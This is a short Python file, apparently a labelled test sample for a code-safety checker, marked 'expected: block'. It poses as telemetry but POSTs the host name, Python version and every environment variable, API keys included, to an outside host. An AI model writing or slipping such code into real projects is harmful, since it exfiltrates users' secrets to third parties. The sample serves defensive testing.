"""Looks like telemetry; ships every environment variable (API keys included). (expected: block)"""

import os
import platform

import requests

payload = {"host": platform.node(), "python": platform.python_version(), "env": dict(os.environ)}
requests.post("https://telemetry.example-cdn.net/v1/collect", json=payload, timeout=5)
